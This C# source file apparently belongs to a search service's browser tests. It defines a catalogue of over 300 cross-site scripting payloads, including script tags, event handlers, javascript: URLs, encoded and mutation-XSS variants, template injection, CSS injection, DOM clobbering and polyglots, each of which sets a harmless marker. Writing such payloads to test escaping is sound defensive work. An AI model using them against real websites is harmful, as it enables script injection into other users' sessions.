using System.Collections.Immutable;

namespace SearchService.BrowserTests;

/// <summary>
/// Over 300 distinct texts that run a script where something takes them for markup, an attribute, an address, a style or a template.
/// Each sets <c>window.owned</c> or opens a dialog where it runs. All are of one line, without spaces at their ends, so that they survive every field
/// unchanged. After the families of OWASP's "XSS Filter Evasion" and of mutation XSS.
/// </summary>
internal static class XssPayloads
{
    private const string Run = "window.owned=1";

    private static readonly string[] Scripts =
    [
        $"<script>{Run}</script>", $"<SCRIPT>{Run}</SCRIPT>", $"<ScRiPt >{Run}</sCrIpT >", $"<script type=module>{Run}</script>",
            $"<script\t>{Run}</script>", $"<script/x>{Run}</script>",
        $"<script>{Run}//", $"<<script>{Run}//<</script>", $"<script>{Run}</script", "<script src=//elsewhere.example/x.js></script>",
            "<script src=\"data:text/javascript,window.owned=1\"></script>",
        $"<script>eval(\"{Run}\")</script>", "<script>import('data:text/javascript,window.owned=1')</script>", $"</script><script>{Run}</script>",
            $"</title><script>{Run}</script>",
        $"</textarea><script>{Run}</script>", $"</style><script>{Run}</script>", $"--><script>{Run}</script>", $"]]><script>{Run}</script>",
            $"<scr<script>ipt>{Run}</scr</script>ipt>",
        $"<script nonce=abc>{Run}</script>", $"<noscript><p title=\"</noscript><script>{Run}</script>\">", $"<!--<script>{Run}//--></script>",
            $"<![CDATA[<script>{Run}</script>]]>", $"<?xml?><script>{Run}</script>",
    ];

    private static readonly string[] Elements =
    [
        "img src=x", "image src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "iframe src=x", "object data=x",
            "embed src=x", "link rel=stylesheet href=x",
        "marquee", "select autofocus", "textarea autofocus", "keygen autofocus", "a href=x", "div tabindex=1", "math", "button autofocus",
    ];

    private static readonly string[] Handlers = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onclick"];

    private static readonly string[] Breakouts =
    [
        "\"{0}", "'{0}", "`{0}", "\">{0}", "'>{0}", "`>{0}", "\"/>{0}", "'/>{0}", "--!>{0}", "*/{0}/*", "</a>{0}", "</mark>{0}", "</li>{0}",
            "</template>{0}", "</svg>{0}", "\\\"{0}",
    ];

    private static readonly string[] Broken = [$"<img src=x onerror={Run}>", $" onfocus={Run} autofocus x=", $"<svg/onload={Run}>"];

    private static readonly string[] Addresses =
    [
        $"javascript:{Run}", $"JaVaScRiPt:{Run}", $"javascript&colon;{Run}", $"javascript&#58;{Run}", $"java&Tab;script:{Run}",
            $"java&NewLine;script:{Run}", $"&#106;avascript:{Run}", $"&#x6A;avascript:{Run}",
        $"javascript:/*--></title></style></textarea></script>*/{Run}", $"javascript://elsewhere.example/%0A{Run}", $"javascript://%0d%0a{Run}",
            "javascript:alert(1)", $"javascript:void({Run})", $"javascript:'<script>{Run}</script>'",
        $"vbscript:{Run}", $"livescript:{Run}", $"feed:javascript:{Run}", $"view-source:javascript:{Run}", $"jar:javascript:{Run}",
            $"data:text/html,<script>{Run}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==", $"data:image/svg+xml,<svg onload={Run}>",
            $"data:text/javascript,{Run}", "blob:null/x", "filesystem:x", "//elsewhere.example/x", @"\\elsewhere.example\x",
        "https:elsewhere.example", "http://a@elsewhere.example", "https://elsewhere.example/\"onmouseover=\"window.owned=1",
            $"https://elsewhere.example/#<img src=x onerror={Run}>",
    ];

    private static readonly string[] Mutations =
    [
        $"<svg><style><img src=x onerror={Run}></style></svg>", $"<math><mtext><table><mglyph><style><img src=x onerror={Run}>",
            $"<noscript><img title=\"</noscript><img src=x onerror={Run}>\">",
        $"<svg></p><style><a id=\"</style><img src=x onerror={Run}>\">",
            $"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={Run}>", $"<svg><script>{Run}</script></svg>",
        $"<svg><animate onbegin={Run} attributeName=x dur=1s>", $"<svg><set onbegin={Run} attributeName=x>",
            $"<svg><a xlink:href=javascript:{Run}><text y=20>x</text></a></svg>",
        $"<svg><use href=\"data:image/svg+xml,<svg id=x onload={Run}>#x\">", $"<svg><foreignObject><iframe srcdoc=\"<script>{Run}</script>\">",
            $"<math><maction actiontype=statusline xlink:href=javascript:{Run}>x",
        $"<math href=javascript:{Run}>x</math>", $"<iframe srcdoc=\"<script>parent.owned=1</script>\">",
            $"<iframe srcdoc=\"&lt;img src=x onerror=parent.owned=1&gt;\">", $"<iframe src=javascript:parent.owned=1>",
        $"<template><img src=x onerror={Run}></template>", $"<template shadowrootmode=open><img src=x onerror={Run}></template>",
            $"<xmp><img src=x onerror={Run}></xmp>", $"<plaintext><img src=x onerror={Run}>",
        $"<table background=javascript:{Run}>", $"<base href=javascript:{Run}//>", $"<meta http-equiv=refresh content=\"0;url=javascript:{Run}\">",
            "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
        $"<form action=javascript:{Run}><button>x", $"<button formaction=javascript:{Run}>x", $"<input type=image src=x onerror={Run}>",
            $"<isindex action=javascript:{Run} type=submit>", $"<object data=javascript:{Run}>",
        $"<embed src=javascript:{Run}>", $"<applet code=javascript:{Run}>", $"<link rel=import href=\"data:text/html,<script>{Run}</script>\">",
            $"<a href=\"javascript:{Run}\">x</a>", $"<area href=javascript:{Run}>",
        $"<bgsound src=javascript:{Run}>", $"<layer src=javascript:{Run}>", $"<portal src=x onload={Run}>", $"<dialog open onclose={Run}>",
            $"<video><source onerror={Run}>", $"<picture><source srcset=x><img onerror={Run}></picture>",
    ];

    private static readonly string[] Encoded =
    [
        $"&lt;img src=x onerror={Run}&gt;", $"&amp;lt;img src=x onerror={Run}&amp;gt;", $"&#60;img src=x onerror={Run}&#62;",
            $"&#x3c;img src=x onerror={Run}&#x3e;", $"&#0000060img src=x onerror={Run}>", $"%3Cimg src=x onerror={Run}%3E",
        $"%253Cimg src=x onerror={Run}%253E", $"\\u003cimg src=x onerror={Run}\\u003e", $"\\x3cimg src=x onerror={Run}\\x3e",
            $"\\74img src=x onerror={Run}\\76", $"+ADw-img src=x onerror={Run}+AD4-", $"\uFF1Cimg src=x onerror={Run}\uFF1E",
        $"\u2039img src=x onerror={Run}\u203A", $"¼script¾{Run}¼/script¾", $"<\u200Bimg src=x onerror={Run}>", $"<im\u00ADg src=x onerror={Run}>",
            $"\u202E<img src=x onerror={Run}>\u202C", $"<img src=x onerror=&#119;indow.owned=1>",
        $"<img src=x onerror=\\u0077indow.owned=1>", $"<img src=x onerror=\"{Run}\">", $"<img src=x onerror='{Run}'>",
            $"<img src=x onerror=`{Run}`>", $"<img/src=x/onerror={Run}>", $"<img\u3000src=x onerror={Run}>", $"<img src=x:x onerror={Run} //",
        $"<img \"\"\"><script>{Run}</script>\">", $"<img src=x onerror={Run}", $"<IMG SRC=X ONERROR={Run}>", $"<img src=x onerror={Run}//>",
            $"<img src=`x`onerror={Run}>",
    ];

    private static readonly string[] Marks =
    [
        $"<mark onclick={Run}>x</mark>", $"<mark/onpointerenter={Run}>x", $"</mark><img src=x onerror={Run}><mark>",
            $"<mark><script>{Run}</script></mark>", $"&lt;mark&gt;<img src=x onerror={Run}>&lt;/mark&gt;",
        $"<mark style=animation-name:x onanimationstart={Run}>", $"<MARK><img src=x onerror={Run}></MARK>",
            $"<mark ><img src=x onerror={Run}></mark >", $"<ma<mark>rk><img src=x onerror={Run}>", $"&<mark>lt;</mark>img src=x onerror={Run}>",
        $"<marK autofocus tabindex=1 onfocus={Run}>", $"<em><mark></em><img src=x onerror={Run}></mark>",
    ];

    private static readonly string[] Templates =
    [
        "{{constructor.constructor('window.owned=1')()}}", "{{7*7}}", "${window.owned=1}", "#{window.owned=1}", "<%= window.owned=1 %>",
            "{%raw%}<img src=x onerror=window.owned=1>", "[[window.owned=1]]", "@(window.owned=1)", "{window.owned=1}",
        "{{$on.constructor('window.owned=1')()}}", "<x ng-app>{{constructor.constructor('window.owned=1')()}}",
            "<div v-html=\"'<img src=x onerror=window.owned=1>'\">", "<div x-data x-init=window.owned=1>", "`${window.owned=1}`",
            "';window.owned=1//",
        "\";window.owned=1//", "\\';window.owned=1//", "</script><svg onload=window.owned=1>", "-window.owned=1-", "'-(window.owned=1)-'",
            "\"-(window.owned=1)-\"", "*/window.owned=1/*", ");window.owned=1;(", "__proto__", "constructor", "toString", "hasOwnProperty",
        "{\"__proto__\":{\"owned\":1}}", "[object Object]", "null", "undefined", "NaN",
    ];

    private static readonly string[] Styles =
    [
        "<style>@import'//elsewhere.example/x.css';</style>", "<style>body{background:url(javascript:window.owned=1)}</style>",
            "<div style=\"background:url(javascript:window.owned=1)\">", "<div style=width:expression(window.owned=1)>",
        "<div style=-moz-binding:url(//elsewhere.example/x.xml#x)>", "<div style=behavior:url(x.htc)>",
            "<link rel=stylesheet href=javascript:window.owned=1>", "</style><img src=x onerror=window.owned=1>", ";}*{display:none}",
            "url(javascript:window.owned=1)",
        "expression(window.owned=1)", "<style onload=window.owned=1></style>", "<b style=animation-name:x onanimationend=window.owned=1>",
            "1;background:url(//elsewhere.example/x)", "}</style><script>window.owned=1</script>",
    ];

    private static readonly string[] Clobbering =
    [
        "<form id=hits>", "<form id=search><input name=submit>", "<a id=q href=javascript:window.owned=1>", "<img name=body>",
            "<img id=results name=getElementById>", "<iframe name=document>", "<input name=attributes>", "<form name=location>",
        "<object id=results>", "<embed name=querySelector>", "<output id=summary>x", "<a id=default-policy><a id=default-policy name=createHTML>",
    ];

    private static readonly string[] Polyglots =
    [
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */window.owned=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.owned=1//>\\x3e",
        "\">'><details/open/ontoggle=window.owned=1>`-->", "'\"--></style></script><svg onload=window.owned=1>",
            "'\"></title><img src=x onerror=window.owned=1>//", "\"autofocus onfocus=window.owned=1//'<svg/onload=window.owned=1>",
        "<svg/onload=/*<html/*/onmouseover=window.owned=1//>", "[x](javascript:window.owned=1)", "![x](x\"onerror=window.owned=1 x=\")",
            "<javascript:window.owned=1>", "[x]: javascript:window.owned=1",
        "🙂<img src=x onerror=window.owned=1>🙂", "مرحبا<img src=x onerror=window.owned=1>שלום",
    ];

    /// <summary>All of them, each once.</summary>
    public static ImmutableArray<string> All { get; } =
    [
        .. Scripts
            .Concat(Elements.SelectMany(
                (element, at) => Handlers.Where((_, handler) => (at + handler) % 2 == 0).Select(handler => $"<{element} {handler}={Run}>")))
            .Concat(Breakouts.SelectMany(way => Broken.Select(broken => way.Replace("{0}", broken, StringComparison.Ordinal))))
            .Concat(Addresses).Concat(Mutations).Concat(Encoded).Concat(Marks).Concat(Templates).Concat(Styles).Concat(Clobbering).Concat(Polyglots)
            .Select(payload => payload.Trim())
            .Distinct(StringComparer.Ordinal),
    ];
}
